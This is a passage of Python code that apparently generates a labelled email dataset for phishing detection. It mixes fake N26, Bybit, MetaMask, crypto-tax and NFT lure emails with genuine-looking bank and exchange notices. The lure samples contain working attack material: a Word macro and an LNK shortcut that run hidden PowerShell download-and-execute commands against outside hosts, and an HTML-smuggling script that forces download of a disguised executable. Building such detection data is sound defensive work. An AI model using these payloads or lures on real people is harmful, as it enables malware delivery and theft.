             '.DownloadString(\'http://91.215.85.17/n26.ps1\')"""\r\n    CreateObject("WScript.Shell").Run s, 0\r\nEnd Sub\r\n')
    doc = docx(["N26 Bank SE - Kontoauszug 03/2024", "", "Dieses Dokument ist geschützt.",
                "Bitte klicken Sie oben auf 'Bearbeitung aktivieren' und 'Inhalt aktivieren', um den Kontoauszug anzuzeigen."],
               "Kontoauszug", "N26", macro=macro)
    b = mixed("----=_NextPart_000_" + rs(s + "bd", 4, "0123456789") + "_01DA8FD1." + rs(s + "bd2", 8, "0123456789ABCDEF"),
              text("Guten Tag,\n\nanbei erhalten Sie Ihren Kontoauszug für März 2024 sowie eine Aufstellung der "
                   "abgelehnten Lastschriften. Bitte prüfen Sie die Angaben bis zum 19.04.2024.\n\nMit freundlichen "
                   "Grüßen\nIhr N26 Team\n"),
              attachment("application/vnd.ms-word.document.macroEnabled.12", "Kontoauszug_03-2024_N26.docm", doc))
    add(s, "phish", "malware",
        "German fake N26 statement: macro-enabled Word document whose AutoOpen runs a hidden PowerShell download "
        "cradle; sent from a compromised Strato-hosted mailbox.",
        mail(seed=s, rcv="gmx", to=LENA, frm=addr("N26 Kontoservice", "buchhaltung@malerbetrieb-kuehn.de"),
             subject="Kontoauszug März 2024 - Rücklastschriften", date=d,
             msgid="<" + rs(s + "m", 12, "0123456789ABCDEF") + "$" + rs(s + "n", 8, "0123456789ABCDEF") + "@malerbetrieb-kuehn.de>",
             ip="81.169.146.220", helo="mo4-p00-ob.smtp.rzone.de", rdns="mo4-p00-ob.smtp.rzone.de",
             mailfrom="buchhaltung@malerbetrieb-kuehn.de", dkim=("pass", "malerbetrieb-kuehn.de", "strato-dkim-0002"),
             pol="NONE", extra=["X-Mailer: Microsoft Outlook 16.0", "Thread-Index: AdqP0" + rs(s + "ti", 24, B64)], body=b))

    # Bybit HTML smuggling
    s = "b40-phish-bybit-html-smuggling"
    d = "2025-02-04 07:25:36 +0000"
    payload = base64.b64encode(zip_archive([("Bybit_Tax_Statement_2024.pdf.exe", pe_stub())])).decode()
    chunks = "\n".join(f'"{payload[i:i + 76]}"+' for i in range(0, len(payload), 76)) + '""'
    page = ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>Bybit - Secure Document</title></head>\n'
            '<body style="font-family:Arial;background:#0b0e11;color:#fff;text-align:center;padding-top:80px">\n'
            '<h2>Bybit Secure Document Viewer</h2><p>Your download will start automatically...</p>\n<script>\n'
            f'var d=\n{chunks};\n'
            'var b=atob(d),a=new Uint8Array(b.length);for(var i=0;i<b.length;i++){a[i]=b.charCodeAt(i);}\n'
            'var f=new Blob([a],{type:"application/octet-stream"}),u=URL.createObjectURL(f),l=document.createElement("a");\n'
            'l.href=u;l.download="Bybit_Tax_Statement_2024.zip";document.body.appendChild(l);l.click();\n'
            '</script>\n</body></html>\n')
    b = mixed("----=_Part_" + rs(s + "bd", 14, "0123456789"),
              text("Dear Bybit user,\n\nYour 2024 annual tax statement (transaction history and realised P&L) is ready. "
                   "For your protection it is delivered as an encrypted document: open the attached file in your "
                   "browser to decrypt and download it.\n\nBybit Tax Centre\n", encoding="7bit"),
              attachment("text/html", "Bybit_Tax_Statement_2024.html", page.encode()))
    add(s, "phish", "malware",
        "HTML smuggling: 'Bybit 2024 tax statement' HTML attachment whose script rebuilds a zip holding "
        "Bybit_Tax_Statement_2024.pdf.exe and forces its download.",
        mail(seed=s, rcv="gmail", to=KEV, frm=addr("Bybit Tax Centre", "tax@bybit-statements.com"),
             subject="Your Bybit 2024 tax statement is ready", date=d,
             msgid="<" + rs(s + "m", 26, HEX) + "@bybit-statements.com>", ip="87.121.221.12",
             helo="bybit-statements.com", mailfrom="tax@bybit-statements.com", dkim=("pass", "bybit-statements.com", "k1"),
             pol="NONE", body=b))

    # GitHub releases hosting a fake MetaMask security tool
    s = "b40-phish-metamask-guard-github"
    d = "2025-06-18 14:51:02 +0000"
    link = "https://github.com/metamask-guard/mm-guard/releases/download/v1.4.2/MetaMaskGuard_Setup_1.4.2.zip"
    b = alt("Hi,\n\nWe're reaching out to MetaMask users who interacted with the recently exploited Permit2 router. "
            "Approvals granted to this contract can still be abused.\n\nMetaMask Guard scans your browser profile for "
            "dangerous approvals and revokes them automatically. It is open source and free:\n\n" + link + "\n\n"
            "Run the installer, then restart your browser.\n\nStay safe,\nMetaMask Guard contributors\n",
            f'<html><body style="font-family:-apple-system,Segoe UI,Arial;font-size:15px"><p>Hi,</p><p>We&#39;re reaching '
            f'out to MetaMask users who interacted with the recently exploited <b>Permit2 router</b>. Approvals granted '
            f'to this contract can still be abused.</p><p><b>MetaMask Guard</b> scans your browser profile for dangerous '
            f'approvals and revokes them automatically. It is open source and free:</p><p><a href="{link}">Download '
            f'MetaMask Guard v1.4.2 for Windows</a></p><p>Run the installer, then restart your browser.</p>'
            f'<p>Stay safe,<br>MetaMask Guard contributors</p></body></html>\n', "=_" + rs(s + "bd", 24, HEX))
    add(s, "phish", "malware",
        "Fake 'MetaMask Guard' approval-revoker offered after an 'exploit', downloaded from a GitHub release (abuse of "
        "GitHub hosting): an infostealer installer targeting browser wallet profiles.",
        mail(seed=s, rcv="outlook", to=CAM, frm=addr("MetaMask Guard", "alerts@mmguard.dev"),
             subject="Urgent: revoke Permit2 approvals on your MetaMask", date=d,
             msgid="<" + rs(s + "m", 22, HEX) + "@mmguard.dev>", ip="45.89.53.140", helo="mail.mmguard.dev",
             mailfrom="alerts@mmguard.dev", dkim=("pass", "mmguard.dev", "mail"), pol="NONE", body=b))

    # German crypto-tax LNK in zip
    s = "b40-phish-krypto-steuer-lnk"
    d = "2025-05-06 08:17:44 +0200"
    lnk = lnk_shortcut(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                       "-w hidden -nop -c \"$u='https://steuer-krypto.de/cdn/k.ps1';iex (irm $u)\"")
    arc = zip_archive([("Krypto_Steuerbericht_2024.pdf.lnk", lnk)])
    b = mixed("------------" + rs(s + "bd", 24, "0123456789"),
              text("Sehr geehrte Frau Brenner,\n\nim Rahmen der Prüfung Ihrer Einkommensteuererklärung 2024 haben wir "
                   "Abweichungen bei den Veräußerungsgewinnen aus Kryptowerten (§ 23 EStG) festgestellt. Den "
                   "vorläufigen Prüfbericht finden Sie im Anhang.\n\nBitte nehmen Sie innerhalb von 14 Tagen Stellung.\n\n"
                   "Mit freundlichen Grüßen\nSteuerberatung Krypto & Digital Assets\nDr. M. Albers\n"),
              attachment("application/zip", "Krypto_Steuerbericht_2024.zip", arc))
    add(s, "phish", "malware",
        "German 'crypto tax audit report' from a tax-adviser look-alike: zip containing a .pdf.lnk shortcut that runs a "
        "hidden PowerShell download.",
        mail(seed=s, rcv="gmx", to=SOPH, frm=addr("Dr. M. Albers", "albers@steuer-krypto.de"),
             subject="Prüfbericht Kryptowerte 2024 - Stellungnahme erbeten", date=d,
             msgid="<" + rs(s + "m", 20, HEX) + "@steuer-krypto.de>", ip="193.149.185.28", helo="mail.steuer-krypto.de",
             mailfrom="albers@steuer-krypto.de", dkim=("pass", "steuer-krypto.de", "default"), pol="NONE", body=b))

    # NFT artist commission with .scr
    s = "b40-phish-nft-commission-scr"
    d = "2024-08-20 16:29:11 +0000"
    arc = zip_archive([("Commission_Brief/References_moodboard.scr", pe_stub()),
                       ("Commission_Brief/brief.txt", b"Collection: Neon Samurai (3,333 pieces)\r\nBudget: 4.5 ETH\r\n"
                        b"Deadline: 3 weeks\r\nSee moodboard for style references.\r\n")])
    b = mixed("00000000000091" + rs(s + "bd", 14, HEX),
              text("Hi Kevin,\n\nI came across your work on Foundation and love your style. We're launching an NFT "
                   "collection (Neon Samurai, 3,333 pieces) and would like to commission 12 base traits from you. "
                   "Budget is 4.5 ETH, half upfront.\n\nThe brief and the moodboard with style references are in the "
                   "attached archive. Let me know if this works for you!\n\nBest,\nRyo Tanaka\nArt Director, Neon "
                   "Samurai\n"),
              attachment("application/x-zip-compressed", "NeonSamurai_Commission_Brief.zip", arc))
    add(s, "phish", "malware",
        "NFT artist commission lure: 4.5 ETH offer with a zip whose 'moodboard' is a .scr executable (wallet "
        "stealer targeting creators).",
        mail(seed=s, rcv="gmail", to=KEV, frm=addr("Ryo Tanaka", "ryo.neonsamurai@proton.me"),
             subject="Commission offer - Neon Samurai NFT collection (4.5 ETH)", date=d,
             msgid="<" + rs(s + "m", 40, ALNUM + "_-") + "=@proton.me>", ip="185.70.43.22",
             helo="mail-4322.protonmail.ch", rdns="mail-4322.protonmail.ch", mailfrom="ryo.neonsamurai@proton.me",
             dkim=("pass", "proton.me", "protonmail"), pol="QUARANTINE", body=b))


def ses_id(seed: str, prefix: str = "0100019") -> str:
    return (f"{prefix}{rs(seed + 'a', 5, HEX)}-{rs(seed + 'b', 8, HEX)}-{rs(seed + 'c', 4, HEX)}-"
            f"{rs(seed + 'd', 4, HEX)}-{rs(seed + 'e', 12, HEX)}-000000")


def legit_brands() -> None:
    # Coinbase new sign-in
    s = "b40-legit-coinbase-new-signin"
    d = "2025-04-14 16:22:07 +0000"
    b = card_alt("--" + rs(s + "bd", 28, HEX), "coinbase", "#0052ff", "New sign-in to your account",
                 ["Hi Daniel,", "We noticed a new sign-in to your Coinbase account.",
                  "<b>Device:</b> Safari on iPhone<br><b>Location:</b> Austin, TX, United States<br>"
                  "<b>Time:</b> April 14, 2025 at 11:21 AM CDT",
                  "If this was you, you don't need to do anything.",
                  'If you don\'t recognize this activity, please <a href="https://www.coinbase.com/settings/security">review '
                  'your security settings</a> and change your password. You can also lock your account from the '
                  '<a href="https://help.coinbase.com/en/coinbase/managing-my-account/other/lock-account">Help Center</a>.',
                  "Coinbase will never ask you for your password, 2-step verification codes or to send funds to a "
                  "\"safe\" wallet."],
                 None, ["Coinbase, Inc. &middot; Please do not reply to this email."], preheader="New sign-in detected")
    add(s, "legit", "bulk",
        "Genuine Coinbase new sign-in notice sent via Amazon SES with aligned coinbase.com DKIM; links only to "
        "coinbase.com, no call to action beyond reviewing settings.",
        mail(seed=s, rcv="gmail", to=DAN, frm=addr("Coinbase", "no-reply@info.coinbase.com"),
             subject="New sign-in to your Coinbase account", date=d, msgid="<" + ses_id(s) + "@email.amazonses.com>",
             ip="54.240.27.118", helo="a27-118.smtp-out.us-west-2.amazonses.com",
             mailfrom=ses_id(s + "rp") + "@info-bounces.coinbase.com", dkim=("pass", "info.coinbase.com", "cb2023"),
             hfrom_dom="info.coinbase.com", extra=["Feedback-ID: ::1.us-west-2." + rs(s + "fb", 40, ALNUM + "/+") + "=:AmazonSES",
                                                   "X-SES-Outgoing: 2025.04.14-54.240.27.118"], body=b))

    # Binance withdrawal confirmation
    s = "b40-legit-binance-withdrawal-success"
    d = "2025-09-22 13:05:41 +0000"
    b = card_alt("----=_Part_" + rs(s + "bd", 18, "0123456789"), "BINANCE", "#f0b90b", "USDT Withdrawal Successful",
                 ["You've successfully withdrawn <b>750.00 USDT</b> from your account.",
                  "Withdrawal Address: TJ8mKq2WuB4x7rHnV3eP9sD1aZ6cF0yL5g<br>Transaction ID: "
                  + rs(s + "tx", 64, HEX),
                  "Don't recognize this activity? Please reset your password and contact customer support immediately.",
                  "<i>This is an automated message, please do not reply.</i>"],
                 ("Visit Your Dashboard", "https://www.binance.com/en/my/dashboard"),
                 ["Stay connected! Binance &middot; To stay secure, setup your phishing code "
                  '<a href="https://www.binance.com/en/my/security/anti-phishing-code">here</a>',
                  "Anti-phishing code: <b>emre2024</b>", "&copy; 2025 Binance.com, All Rights Reserved."])
    add(s, "legit", "bulk",
        "Genuine Binance withdrawal-successful notice the user triggered, with the user's anti-phishing code, SES "
        "delivery signed by binance.com.",
        mail(seed=s, rcv="outlook", to=EMRE, frm=addr("Binance", "do-not-reply@ses.binance.com"),
             subject="[Binance] USDT Withdrawal Successful - 2025-09-22 13:05:39(UTC)", date=d,
             msgid="<" + ses_id(s) + "@email.amazonses.com>", ip="54.240.3.41", helo="a3-41.smtp-out.amazonses.com",
             mailfrom=ses_id(s + "rp") + "@ses.binance.com", dkim=("pass", "ses.binance.com", "ses"),
             hfrom_dom="ses.binance.com", extra=["Feedback-ID: ::1.ap-northeast-1." + rs(s + "fb", 40, ALNUM) + "=:AmazonSES"],
             body=b))

    # Kraken statement ready
    s = "b40-legit-kraken-statement-ready"
    d = "2025-01-06 10:00:12 +0000"
    b = card_alt("----==_mimepart_" + rs(s + "bd", 20, HEX), "kraken", "#7132f5", "Your account statement is ready",
                 ["Hi Jordan,", "Your Kraken account statement for December 2024 is now available to download in your "
                  "account.", "To view it, sign in and go to Documents &gt; Statements."],
                 ("Go to Documents", "https://pro.kraken.com/app/settings/documents"),
                 ["For your security, we never attach statements to emails and we will never ask for your password "
                  "or 2FA codes.", "Payward, Inc. &middot; 106 E. Lincolnway, Suite 300-R, Cheyenne, WY 82001"])
    add(s, "legit", "bulk",
        "Genuine Kraken monthly statement-ready notice, no attachment, link to pro.kraken.com, SendGrid with aligned "
        "kraken.com DKIM.",
        mail(seed=s, rcv="quantleaf", to=JO, frm=addr("Kraken", "noreply@kraken.com"),
             subject="Your Kraken account statement is ready", date=d,
             msgid="<" + rs(s + "m", 22, ALNUM + "-_") + "@geopod-ismtpd-14>", ip="149.72.197.104",
             helo="o3.email.kraken.com", mailfrom="bounces+2917733-8c1e-" + JO.replace("@", "=") + "@email.kraken.com",
             dkim=("pass", "kraken.com", "s1"), extra=["X-SG-EID: " + rs(s + "eid", 80, B64)], body=b))

    # MetaMask newsletter
    s = "b40-legit-metamask-newsletter"
    d = "2025-07-10 15:30:00 +0000"
    tl = lambda n: esp_link("https://links.metamask.io/e/c/", f"{s}{n}", 96)  # noqa: E731
    b = card_alt("----=_Part_" + rs(s + "bd", 16, "0123456789"), "MetaMask", "#f6851b", "What's new in MetaMask: July",
                 ["Smart transactions are now on by default on Ethereum, Base and Linea &ndash; fewer failed swaps and "
                  f'better protection from front-running. <a href="{tl(1)}">Read more</a>',
                  f'Multichain accounts: manage your Solana and EVM accounts under one Secret Recovery Phrase. '
                  f'<a href="{tl(2)}">See how</a>',
                  "<b>Security reminder:</b> MetaMask will never ask for your Secret Recovery Phrase, never DM you and "
                  "never email you to &quot;verify&quot; or &quot;validate&quot; your wallet. There is no MetaMask "
                  "airdrop you need to claim by email.",
                  f'<a href="{tl(3)}">Follow us on X</a> &middot; <a href="{tl(4)}">Support</a>'],
                 ("Update to the latest version", tl(5)),
                 ["Consensys Software Inc. &middot; 5049 Edwards Ranch Road, Fort Worth, TX 76109",
                  f'<a href="{tl(6)}">Unsubscribe</a> &middot; <a href="{tl(7)}">Email preferences</a>'])
    add(s, "legit", "bulk",
        "Genuine MetaMask monthly newsletter the user opted into: Customer.io tracking links, unsubscribe headers, and a "
        "reminder that MetaMask never asks for the Secret Recovery Phrase.",
        mail(seed=s, rcv="gmail", to=KEV, frm=addr("MetaMask", "hello@updates.metamask.io"),
             subject="What's new in MetaMask: smart transactions by default", date=d,
             msgid="<" + rs(s + "m", 36, ALNUM) + "@updates.metamask.io>", ip="168.245.81.22",
             helo="o22.updates.metamask.io", mailfrom="bounces+1882310-" + rs(s + "x", 4, HEX) + "-kevin.tran.sd=gmail.com@updates.metamask.io",
             dkim=("pass", "updates.metamask.io", "s1"), hfrom_dom="updates.metamask.io",
             extra=["List-Unsubscribe: <" + tl(8) + ">, <mailto:unsubscribe@updates.metamask.io?subject=unsubscribe>",
                    "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "Precedence: bulk"], body=b))

    # Ledger security reminder (French)
    s = "b40-legit-ledger-security-reminder-fr"
    d = "2024-11-26 09:15:00 +0100"
    tl = lambda n: esp_link("https://click.email.ledger.com/?qs=", f"{s}{n}", 110)  # noqa: E731
    b = card_alt("--" + rs(s + "bd", 26, HEX), "LEDGER", "#000000", "Rappel : protégez-vous contre les arnaques",
                 ["Bonjour Camille,", "Les tentatives d'hameçonnage visant les utilisateurs de crypto sont nombreuses "
                  "en cette fin d'année. Quelques règles simples :",
                  "&bull; Ne partagez <b>jamais</b> votre phrase de récupération de 24 mots, avec personne, pas même "
                  "Ledger.<br>&bull; Ledger ne vous appellera jamais et ne vous demandera jamais de « synchroniser » ou "
                  "de « valider » votre appareil.<br>&bull; Ledger n'envoie pas d'appareils de remplacement non "
                  "sollicités.<br>&bull; Téléchargez Ledger Live uniquement depuis ledger.com.",
                  f'<a href="{tl(1)}">En savoir plus sur la sécurité</a>'],
                 ("Vérifier ma version de Ledger Live", tl(2)),
                 ["Ledger SAS &middot; 1 rue du Mail, 75002 Paris",
                  f'<a href="{tl(3)}">Se désinscrire</a> &middot; <a href="{tl(4)}">Politique de confidentialité</a>'],
                 lang="fr")
    add(s, "legit", "bulk",
        "Genuine Ledger security-awareness mail in French (Salesforce Marketing Cloud tracking links, List-Unsubscribe) "
        "saying Ledger never asks for the 24 words or sends unsolicited replacements.",
        mail(seed=s, rcv="outlook", to=CAM, frm=addr("Ledger", "hello@email.ledger.com"),
             subject="Rappel de sécurité : ne partagez jamais vos 24 mots", date=d,
             msgid="<" + rs(s + "m", 8, HEX) + "-" + rs(s + "n", 4, HEX) + "-" + rs(s + "o", 4, HEX) + "-" + rs(s + "p", 4, HEX)
             + "-" + rs(s + "q", 12, HEX) + "@atl1s07mta2004.xt.local>", ip="13.111.112.44",
             helo="mta.email.ledger.com", rdns="mta.email.ledger.com", mailfrom="bounce-15_HTML-" + rs(s + "rp", 9, "0123456789") + "-"
             + rs(s + "rq", 6, "0123456789") + "-7293871-8@bounce.email.ledger.com",
             dkim=("pass", "email.ledger.com", "200608"), hfrom_dom="email.ledger.com",
             extra=["List-Unsubscribe: <" + tl(5) + ">", "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
                    "x-job: 7293871_" + rs(s + "job", 7, "0123456789")], body=b))

    # Revolut statement (German)
    s = "b40-legit-revolut-kontoauszug-de"
    d = "2025-11-01 06:12:38 +0100"
    b = card_alt("--" + rs(s + "bd", 30, HEX), "Revolut", "#191c1f", "Dein Kontoauszug für Oktober ist verfügbar",
                 ["Hallo Lena,", "dein monatlicher Kontoauszug für dein EUR-Konto (Oktober 2025) steht jetzt in der "
                  "Revolut-App bereit.", "Du findest ihn unter Konten &gt; Kontoauszug. Aus Sicherheitsgründen senden "
                  "wir Kontoauszüge nicht als Anhang.",
                  "Revolut wird dich niemals anrufen oder per E-Mail auffordern, Geld auf ein „sicheres Konto“ zu überweisen."],
                 ("In der App öffnen", "https://revolut.com/app/statements"),
                 ["Revolut Bank UAB, Konstitucijos ave. 21B, 08130 Vilnius, Litauen", "Zweigniederlassung Deutschland"],
                 lang="de")
    add(s, "legit", "bulk",
        "Genuine Revolut monthly statement-available notice in German, link to revolut.com only, signed by revolut.com "
        "via SES.",
        mail(seed=s, rcv="gmx", to=LENA, frm=addr("Revolut", "no-reply@revolut.com"),
             subject="Dein Kontoauszug für Oktober", date=d, msgid="<" + ses_id(s) + "@eu-west-1.amazonses.com>",
             ip="54.240.4.17", helo="a4-17.smtp-out.eu-west-1.amazonses.com", mailfrom=ses_id(s + "rp") + "@mail.revolut.com",
             dkim=("pass", "revolut.com", "rvlt1"), body=b))

    # N26 new device (German, requested by user)
    s = "b40-legit-n26-neues-geraet-de"
    d = "2025-03-02 19:48:05 +0100"
    b = card_alt("--" + rs(s + "bd", 30, HEX), "N26", "#36a18b", "Neues Smartphone verbunden",
                 ["Hallo Sophie,", "soeben wurde ein neues Smartphone (iPhone 16) mit deinem N26 Konto gekoppelt. Dein "
                  "bisheriges Gerät kann ab sofort keine Zahlungen mehr freigeben.",
                  "Warst du das? Dann musst du nichts weiter tun.",
                  "Falls nicht, sperre dein Konto sofort in der App oder über den Chat im Support-Center unter "
                  '<a href="https://n26.com/de-de/support">n26.com</a>. N26 fragt dich niemals per E-Mail, SMS oder Telefon '
                  "nach deinem Passwort, PIN oder TAN."],
                 None, ["N26 Bank SE, Voltairestraße 8, 10179 Berlin"], lang="de")
    add(s, "legit", "bulk",
        "Genuine N26 'new smartphone paired' notice after the user changed phones, no button, only n26.com support "
        "reference.", mail(seed=s, rcv="gmx", to=SOPH, frm=addr("N26", "no-reply@n26.com"),
                           subject="Neues Smartphone mit deinem Konto verbunden", date=d,
                           msgid="<" + rs(s + "m", 24, ALNUM) + ".1741027685@mailer.n26.com>", ip="192.174.88.21",
                           helo="mta-88-21.sparkpostmail.com", rdns="mta-88-21.sparkpostmail.com",
                           mailfrom="msprvs1=" + rs(s + "rp", 20, ALNUM) + "=bounces-228411@spmail.n26.com",
                           dkim=("pass", "n26.com", "scph0125"), body=b))

    # Wise transfer complete (French)
    s = "b40-legit-wise-virement-fr"
    d = "2025-06-12 11:41:57 +0200"
    b = card_alt("----=_Part_" + rs(s + "bd", 20, "0123456789"), "Wise", "#9fe870", "Votre virement est arrivé",
                 ["Bonjour Camille,", "Votre virement de <b>450,00 EUR</b> à <b>Mathilde Garnier</b> a été versé sur son "
                  "compte.", "Référence : loyer juin<br>Numéro de transfert : #1184209376",
                  "Wise ne vous demandera jamais de transférer de l'argent pour « sécuriser » votre compte."],
                 ("Voir le transfert", "https://wise.com/transactions/activities/by-resource/TRANSFER/1184209376"),
                 ["Wise Europe SA, Rue du Trône 100, 1050 Bruxelles"], lang="fr")
    add(s, "legit", "bulk",
        "Genuine Wise transfer-delivered notice in French for the user's own rent transfer, link to wise.com.",
        mail(seed=s, rcv="outlook", to=CAM, frm=addr("Wise", "noreply@wise.com"), subject="Votre virement est arrivé",
             date=d, msgid="<" + rs(s + "m", 20, "0123456789") + ".JavaMail.app@wise-mailer-" + rs(s + "h", 6, HEX) + ">",
             ip="198.244.59.33", helo="mta-59-33.wise.com", mailfrom="bounces@mail.wise.com",
             dkim=("pass", "wise.com", "mx"), body=b))

    # Monzo newsletter
    s = "b40-legit-monzo-newsletter"
    d = "2025-05-22 12:00:04 +0100"
    tl = lambda n: esp_link("https://email.monzo.com/c/", f"{s}{n}", 100)  # noqa: E731
    b = card_alt("--" + rs(s + "bd", 24, HEX), "Monzo", "#ff4f40", "Your May Monzo roundup",
                 ["Hey Jordan 👋", f'Get paid early: Monzo can pay your salary up to a day early. <a href="{tl(1)}">Turn it on</a>',
                  f'Savings Pots now earn up to 4.10% AER (variable). <a href="{tl(2)}">Open a Pot</a>',
                  "Remember: we'll never call you and ask you to move money. If someone claiming to be Monzo does, hang "
                  "up and contact us in the app."],
                 ("Open Monzo", tl(3)),
                 ["Monzo Bank Limited, Broadwalk House, 5 Appold St, London EC2A 2AG",
                  f'<a href="{tl(4)}">Unsubscribe from marketing emails</a>'])
    add(s, "legit", "bulk",
        "Genuine Monzo marketing roundup with tracked links on email.monzo.com and one-click unsubscribe.",
        mail(seed=s, rcv="quantleaf", to=JO, frm=addr("Monzo", "hello@email.monzo.com"),
             subject="Your May roundup: salary a day early 💸", date=d,
             msgid="<" + rs(s + "m", 30, ALNUM) + "@email.monzo.com>", ip="159.135.228.17", helo="m228-17.mailgun.net",
             mailfrom="bounce+" + rs(s + "rp", 6, HEX) + ".c1a2-" + JO.replace("@", "=") + "@email.monzo.com",
             dkim=("pass", "email.monzo.com", "mta"), hfrom_dom="email.monzo.com",
             extra=["List-Unsubscribe: <" + tl(5) + ">", "List-Unsubscribe-Post: List-Unsubscribe=One-Click"], body=b))

    # Cash App payment received
    s = "b40-legit-cashapp-payment-received"
    d = "2025-08-30 20:14:51 -0500"
    b = card_alt("--" + rs(s + "bd", 30, HEX), "Cash App", "#00d64f", "$Jake_Morales sent you $45",
                 ["For 🍕 pizza + gas", "Received in your Cash balance.",
                  "Cash App will never ask you to send money to receive money, and there is no 'business upgrade' fee."],
                 ("View in Cash App", "https://cash.app/account/activity"),
                 ["Block, Inc. &middot; 1955 Broadway, Suite 600, Oakland, CA 94612", "Privacy Policy &middot; Terms"])
    add(s, "legit", "bulk",
        "Genuine Cash App payment-received receipt from cash@square.com (aligned DKIM), link to cash.app.",
        mail(seed=s, rcv="gmail", to=KEV, frm=addr("Cash App", "cash@square.com"), subject="$Jake_Morales sent you $45",
             date=d, msgid="<" + rs(s + "m", 26, ALNUM) + "@square.com>", ip="198.244.60.12",
             helo="mail60-12.square.com", mailfrom="bounce-" + rs(s + "rp", 12, "0123456789") + "@bounces.square.com",
             dkim=("pass", "square.com", "s2023"), body=b))

    # Venmo charge request
    s = "b40-legit-venmo-request"
    d = "2024-10-19 09:03:12 -0700"
    b = card_alt("--" + rs(s + "bd", 30, HEX), "venmo", "#008cff", "Alex Kim requests $32.50",
                 ["🎟️ Dodgers tickets fees", "Pay or decline in the Venmo app."],
                 ("Pay", "https://venmo.com/story/" + rs(s + "st", 24, "0123456789")),
                 ["Venmo is a service of PayPal, Inc., a licensed provider of money transfer services. "
                  "For security, Venmo will never ask you for your password or verification code."])
    add(s, "legit", "bulk",
        "Genuine Venmo payment request from a friend, sent from venmo@venmo.com with aligned DKIM, link to venmo.com.",
        mail(seed=s, rcv="gmail", to=KEV, frm=addr("Venmo", "venmo@venmo.com"), subject="Alex Kim requests $32.50",
             date=d, msgid="<" + rs(s + "m", 13, HEX) + "." + rs(s + "n", 8, "0123456789") + "@venmo.com>",
             ip="64.4.240.78", helo="mx0.slc.paypal.com", mailfrom="venmo@venmo.com", dkim=("pass", "venmo.com", "pp-dkim1"),
             body=b))

    # Chase Zelle received
    s = "b40-legit-chase-zelle-received"
    d = "2025-02-14 18:30:06 -0500"
    b = alt("You received money with Zelle(R)\n\nMaria Lopez sent you $120.00\nMemo: Valentine's dinner split\n\n"
            "The money is now available in your account ending in 4821.\n\nChase will never ask you to send money to "
            "yourself via Zelle to stop fraud.\n\nQuestions? Call us at the number on the back of your card.\n\n"
            "JPMorgan Chase Bank, N.A. Member FDIC\n",
            '<html><body style="font-family:Arial;font-size:14px;color:#414042"><table width="600" align="center"><tr>'
            '<td style="padding:20px"><p><b style="color:#117aca;font-size:20px">CHASE</b></p><h2>You received money '
            'with Zelle&reg;</h2><p><b>Maria Lopez</b> sent you <b>$120.00</b><br>Memo: Valentine&#39;s dinner split</p>'
            '<p>The money is now available in your account ending in 4821.</p><p style="font-size:12px">Chase will '
            'never ask you to send money to yourself via Zelle to stop fraud.</p><p style="font-size:12px">Questions? '
            'Call us at the number on the back of your card.</p><p style="font-size:11px;color:#888">JPMorgan Chase '
            'Bank, N.A. Member FDIC</p></td></tr></table></body></html>\n', "--" + rs(s + "bd", 24, HEX))
    add(s, "legit", "bulk",
        "Genuine Chase 'You received money with Zelle' alert from no.reply.alerts@chase.com, no links to act on.",
        mail(seed=s, rcv="gmail", to=DAN, frm=addr("Chase", "no.reply.alerts@chase.com"),
             subject="You received money with Zelle®", date=d,
             msgid="<" + rs(s + "m", 20, "0123456789") + ".JavaMail.tpsalert@ralapx" + rs(s + "h", 4, "0123456789") + ".chase.com>",
             ip="159.53.110.181", helo="sfmta01.chase.com", mailfrom="no.reply.alerts@chase.com",
             dkim=("pass", "chase.com", "alerts"), body=b))

    # Nubank fatura (PT)
    s = "b40-legit-nubank-fatura"
    d = "2025-07-01 09:02:11 -0300"
    b = card_alt("--" + rs(s + "bd", 28, HEX), "Nu", "#820ad1", "Sua fatura fechou",
                 ["Oi, Lucas!", "A fatura do seu cartão Nubank fechou no valor de <b>R$ 1.284,37</b>, com vencimento em "
                  "<b>08/07/2025</b>.", "Você pode pagar pelo app com Pix, boleto ou débito em conta.",
                  "O Nubank nunca liga pedindo sua senha ou solicita transferências para 'conta segura'."],
                 ("Ver fatura no app", "https://nubank.com.br/app/fatura"),
                 ["Nu Pagamentos S.A. &middot; Rua Capote Valente, 39 - São Paulo - SP"], lang="pt-BR")
    add(s, "legit", "bulk",
        "Genuine Nubank credit-card statement-closed notice in Portuguese from todomundo@nubank.com.br.",
        mail(seed=s, rcv="gmail", to=LUC, frm=addr("Nubank", "todomundo@nubank.com.br"), subject="Sua fatura fechou",
             date=d, msgid="<" + rs(s + "m", 30, ALNUM) + "@nubank.com.br>", ip="167.89.104.91",
             helo="o91.email.nubank.com.br", mailfrom="bounces+" + rs(s + "rp", 8, "0123456789") + "-lucas.moreira.rj=gmail.com@email.nubank.com.br",
             dkim=("pass", "nubank.com.br", "s1"), body=b))

    # Mercado Pago receipt (ES-AR)
    s = "b40-legit-mercadopago-recibiste-pago"
    d = "2024-12-21 17:44:30 -0300"
    b = card_alt("--" + rs(s + "bd", 28, HEX), "mercado pago", "#00b1ea", "Recibiste $ 35.000",
                 ["Hola Valentina:", "<b>Lucía Fernández</b> te envió <b>$ 35.000</b>.", "Motivo: regalo mamá 🎁",
                  "El dinero ya está disponible en tu cuenta."],
                 ("Ver actividad", "https://www.mercadopago.com.ar/activities"),
                 ["Mercado Pago nunca te pedirá claves ni códigos por e-mail, teléfono o WhatsApp.",
                  "MercadoLibre S.R.L. &middot; Av. Caseros 3039, CABA"], lang="es-AR")
    add(s, "legit", "bulk",
        "Genuine Mercado Pago 'you received money' notice in Argentine Spanish, signed by mercadopago.com.",
        mail(seed=s, rcv="outlook", to=VAL, frm=addr("Mercado Pago", "info@mercadopago.com"),
             subject="Recibiste $ 35.000 de Lucía Fernández", date=d,
             msgid="<" + rs(s + "m", 32, HEX) + "@mercadopago.com>", ip="209.225.49.17",
             helo="mail49-17.mercadopago.com", mailfrom="bounce-" + rs(s + "rp", 16, HEX) + "@mail.mercadopago.com",
             dkim=("pass", "mercadopago.com", "mp1"), body=b))

    # OKX verification code (requested)
    s = "b40-legit-okx-verification-code"
    d = "2025-10-09 19:22:03 +0300"
    b = card_alt("--" + rs(s + "bd", 28, HEX), "OKX", "#000000", "Verify your identity",
                 ["Your verification code is:", '<span style="font-size:28px;letter-spacing:6px"><b>482 917</b></span>',
                  "This code is valid for 10 minutes. You requested it to add a new withdrawal address.",
